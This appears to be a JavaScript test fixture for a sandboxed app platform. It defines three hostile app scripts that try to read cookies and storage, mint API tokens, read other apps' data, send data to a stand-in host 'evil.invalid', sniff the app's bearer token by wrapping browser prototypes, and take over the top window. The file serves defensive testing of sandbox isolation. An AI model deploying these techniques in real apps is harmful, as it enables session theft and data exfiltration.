/** Sources of hostile apps: each tries, and writes what came of it into the page as JSON. */

/** What runs in the sandbox reports `{ name: "what came of it" }` in `#core-app`. */
const reporting = `
const out = {};
const attempt = async (name, run) => {
  try { const got = await run(); out[name] = typeof got === "string" ? got : JSON.stringify(got) ?? "undefined"; }
  catch (error) { out[name] = "refused: " + (error && error.name); }
};
const finish = () => {
  const root = document.getElementById("core-app");
  root.textContent = JSON.stringify(out);
  root.dataset.done = "yes";
};
`;

/** Opened by the administrator, it goes for the session and for what is not its own. */
export const thief = `${reporting}
const status = (path, init) => fetch(path, init).then((response) => "answered " + response.status);
await attempt("cookie", () => document.cookie);
await attempt("localStorage", () => String(localStorage.length));
await attempt("sessionStorage", () => String(sessionStorage.length));
await attempt("indexedDB", () => new Promise((resolve, reject) => {
  const request = indexedDB.open("x");
  request.onsuccess = () => resolve("opened");
  request.onerror = () => reject(request.error);
}));
await attempt("serviceWorker", () => navigator.serviceWorker.register("/a/-/x.js").then(() => "registered"));
await attempt("users", () => status("/account/users.json"));
await attempt("users with cookies", () => status("/account/users.json", { credentials: "include" }));
await attempt("own page", () => fetch(location.href).then((response) => response.text()));
await attempt("own page with cookies", () => fetch(location.href, { credentials: "include" }).then((r) => r.text()));
await attempt("new token", () => status("/account/api_tokens.json", { method: "POST", body: '{"api_token":{}}' }));
await attempt("session", () => status("/account/session.json", { method: "DELETE", credentials: "include" }));
await attempt("other records", () => core.records("salaries").list());
await attempt("other public methods", () => core.db("salaries").list());
await attempt("another app's storage", () => status("/core/apps/" + OTHER_APP + "/storage.json"));
await attempt("all apps", () => status("/core/apps.json"));
await attempt("image to another host", () => new Promise((resolve, reject) => {
  const image = new Image();
  image.onload = () => resolve("loaded");
  image.onerror = () => reject(new Error("blocked"));
  image.src = "https://evil.invalid/?stolen";
}));
await attempt("fetch to another host", () => status("https://evil.invalid/?stolen"));
await attempt("beacon", () => { if (!navigator.sendBeacon("https://evil.invalid/", "x")) throw new Error("refused"); return blocked("connect-src"); });
await attempt("socket", () => new Promise((resolve, reject) => {
  const socket = new WebSocket("wss://evil.invalid/");
  socket.onopen = () => resolve("open");
  socket.onerror = () => reject(new Error("refused"));
}));
await attempt("frame of another app", () => { document.body.append(Object.assign(document.createElement("iframe"), { src: "/a/" + OTHER_APP })); return blocked("frame-src"); });
await attempt("base", () => { document.head.append(Object.assign(document.createElement("base"), { href: "https://evil.invalid/" })); return document.baseURI.includes("evil") ? "changed" : blocked("base-uri"); });
await attempt("script of another host", () => new Promise((resolve, reject) => {
  const script = document.createElement("script");
  script.onload = () => resolve("loaded");
  script.onerror = () => reject(new Error("blocked"));
  script.src = "https://evil.invalid/x.js";
  document.head.append(script);
}));
await attempt("eval", () => eval("'ran'"));
finish();
function blocked(directive) {
  return new Promise((resolve) => {
    document.addEventListener("securitypolicyviolation", (event) => resolve("blocked by " + event.effectiveDirective));
    setTimeout(() => resolve("not blocked"), 3000);
  });
}
`;

/**
 * Turns every function that the SDK might call into a spy, and looks for the app token in whatever passes, in the
 * document and in what the browser remembers.
 */
export const spy = `${reporting}
const found = [];
const seen = new Set();
const real = { stringify: JSON.stringify, apply: Reflect.apply, includes: String.prototype.includes, then: Promise.prototype.then,
  getHeader: Headers.prototype.get, getter: Object.getOwnPropertyDescriptor(Request.prototype, "headers").get,
  text: Object.getOwnPropertyDescriptor(XMLHttpRequest.prototype, "responseText").get };
let looking = false;
const look = (where, value) => {
  if (looking) return;
  looking = true;
  lookAt(where, value);
  // What is being dispatched while this microtask runs.
  if (window.event) lookAt("window.event", window.event.target);
  looking = false;
};
const lookAt = (where, value) => {
  let text = "";
  try { text = typeof value === "string" ? value : ""; } catch {}
  try { if (value instanceof Headers) text = String(real.apply(real.getHeader, value, ["authorization"])); } catch {}
  try { text = text || String(real.apply(real.getHeader, real.apply(real.getter, value, []), ["authorization"])); } catch {}
  try { text = text || String(real.apply(real.text, value, [])); } catch {}
  try { if (typeof value === "object" && value !== null && !text) text = real.stringify(value) ?? ""; } catch {}
  if (real.apply(real.includes, text, ["capp_"]) || real.apply(real.includes, text, ["Bearer"])) found[found.length] = where;
};
const spyOn = (owner, ownerName, name) => {
  const descriptor = Object.getOwnPropertyDescriptor(owner, name);
  if (!descriptor || !descriptor.configurable) return;
  const wrap = (original) => {
    if (!original) return original;
    const spied = function (...args) {
      if (!busy) {
        busy = true;
        look(ownerName + "." + String(name) + " this", this);
        for (let at = 0; at < args.length; at++) look(ownerName + "." + String(name) + " " + at, args[at]);
        busy = false;
      }
      return new.target ? Reflect.construct(original, args) : real.apply(original, this, args);
    };
    if (original.prototype) spied.prototype = original.prototype;
    return spied;
  };
  if (typeof descriptor.value === "function") descriptor.value = wrap(descriptor.value);
  else { descriptor.get = wrap(descriptor.get); descriptor.set = wrap(descriptor.set); }
  try { Object.defineProperty(owner, name, descriptor); } catch {}
};
let busy = false;
const names = (value) => [...Object.getOwnPropertyNames(value), ...Object.getOwnPropertySymbols(value)];
for (const type of ["Headers", "Request", "Response", "XMLHttpRequest", "XMLHttpRequestEventTarget", "EventTarget", "Promise", "URL", "Event", "ProgressEvent"]) {
  for (const name of names(window[type].prototype)) if (name !== "constructor") spyOn(window[type].prototype, type, name);
}
for (const name of ["startsWith", "concat", "replace", "toString", "valueOf", Symbol.iterator]) spyOn(String.prototype, "String", name);
for (const name of [Symbol.iterator, "push", "join", "concat", "forEach", "map"]) spyOn(Array.prototype, "Array", name);
for (const name of ["apply", "call", "bind"]) spyOn(Function.prototype, "Function", name);
for (const name of ["parse", "stringify"]) spyOn(JSON, "JSON", name);
for (const name of ["apply", "construct", "get", "set"]) spyOn(Reflect, "Reflect", name);
for (const name of ["fetch", "Request", "Headers", "XMLHttpRequest", "URL", "setTimeout", "queueMicrotask"]) spyOn(window, "window", name);
Object.defineProperty(Promise.prototype, "constructor", { get() { look("Promise constructor", this);
  if (looking || busy) return Promise;
  busy = true;
  try { real.apply(real.then, this, [(value) => look("a promise's value", value), () => {}]); } catch {}
  busy = false;
  return Promise;
} });
for (const name of ["then", "authorization", "headers", "token", "credentials", "signal", "method", "body", "0", "1", "toJSON", "once", "expires_in"]) {
  Object.defineProperty(Object.prototype, name, { configurable: true,
    get() { look("Object.prototype." + name, this); return undefined; },
    set(value) { look("Object.prototype." + name + " set", value); Object.defineProperty(this, name, { value, writable: true, enumerable: true, configurable: true }); } });
}
Error.prepareStackTrace = (error, frames) => { for (const frame of frames) { look("frame", frame.getThis()); look("frame", frame.getFunction()?.arguments); } return "stack"; };
// The spy sees what a careless SDK would do.
new Request("/x", { headers: new Headers({ authorization: "Bearer capp_x" }) }).headers.get("authorization");
await Promise.resolve("capp_x").then((text) => text);
out.control = String(found.length > 2);
found.length = 0;

await attempt("storage", async () => { await core.storage.set("a", 1); return await core.storage.get("a"); });
await attempt("records", async () => (await core.records().list()).length);
await attempt("records after a refused token", async () => (await core.records().list()).length);
await attempt("fetch", async () => (await fetch("/core/dbs/guests/records.json", { headers: { accept: "application/json" } })).status);
await attempt("fetch of a Request", async () => { const request = new Request("/core/dbs/guests/records.json"); const { status } = await fetch(request); look("own request", request); return status; });
await attempt("XMLHttpRequest", () => new Promise((resolve, reject) => {
  const request = new XMLHttpRequest();
  request.open("GET", "/core/dbs/guests/records.json");
  request.setRequestHeader("accept", "application/json");
  request.onreadystatechange = () => look("a state", request);
  request.onload = () => { look("an answer", request); resolve(request.status); };
  request.onerror = reject;
  request.send();
}));
look("document", document.documentElement.outerHTML);
for (const entry of performance.getEntries()) look("performance", JSON.stringify(entry));
for (const name of Object.getOwnPropertyNames(window)) { try { look("window." + name, window[name]); } catch {} }
look("history", real.stringify(history.state));
out.found = real.stringify([...new Set(found)]);
finish();
`;

/** In a frame of one of our own pages it tries to take the whole window. */
export const navigator = `${reporting}
await attempt("top.location", () => { top.location = "/a/taken"; return "taken"; });
await attempt("top.location.href", () => { top.location.href = "https://evil.invalid/"; return "taken"; });
await attempt("open _top", () => { const opened = window.open("/a/taken", "_top"); if (!opened) throw new Error("x"); return "taken"; });
await attempt("open _parent", () => { const opened = window.open("/a/taken", "_parent"); if (!opened) throw new Error("x"); return "taken"; });
await attempt("link", () => { const link = Object.assign(document.createElement("a"), { href: "/a/taken", target: "_top" }); document.body.append(link); link.click(); return "clicked"; });
await attempt("form", () => { const form = Object.assign(document.createElement("form"), { action: "/a/taken", target: "_top" }); document.body.append(form); form.submit(); return "submitted"; });
await attempt("parent document", () => parent.document.title);
await attempt("top cookies", () => top.document.cookie);
finish();
`;
